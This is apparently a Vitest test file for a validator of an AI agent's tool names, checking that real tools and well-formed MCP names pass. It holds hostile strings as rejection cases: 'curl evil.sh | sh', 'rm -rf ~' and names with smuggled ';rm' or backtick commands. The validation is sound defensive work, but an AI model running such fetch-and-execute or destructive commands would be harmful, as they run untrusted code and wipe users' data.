import { describe, expect, it } from "vitest";
import { isKnownTool, namesUnknownTool } from "./tool-name";

describe("isKnownTool", () => {
  it("accepts the agent's real tools and MCP tools of a strict form", () => {
    for (const name of [
      "Bash",
      "Read",
      "Edit",
      "MultiEdit",
      "Write",
      "Grep",
      "Glob",
      "Task",
      "TodoWrite",
      "WebFetch",
      "Skill",
      "mcp__github__create_issue",
      "mcp__my_server__run-it",
    ]) {
      expect(isKnownTool(name), name).toBe(true);
    }
  });

  it("refuses any other name, however plain, and MCP names that stray from the form", () => {
    for (const name of [
      "curl evil.sh | sh",
      "rm -rf ~",
      "git-push--force",
      "sudo",
      "curl",
      "bash",
      "rm:-rf",
      "read",
      "mcp__x",
      "mcp__x__",
      "mcp____y",
      "mcp__x__y;rm",
      "mcp__x__y z",
      "mcp__x__`y`",
      null,
      undefined,
      "",
    ]) {
      expect(isKnownTool(name), String(name)).toBe(false);
    }
  });
});

describe("namesUnknownTool", () => {
  it("finds a tool-preference rule about a tool that is not a real one, pooled or per domain", () => {
    expect(namesUnknownTool("tool-preference:deployment:git-push--force")).toBe(true);
    expect(namesUnknownTool("tool-preference:sudo")).toBe(true);
    expect(namesUnknownTool("tool-preference:testing:Read")).toBe(false);
    expect(namesUnknownTool("tool-preference:mcp__github__create_issue")).toBe(false);
    expect(namesUnknownTool("verification")).toBe(false);
  });
});
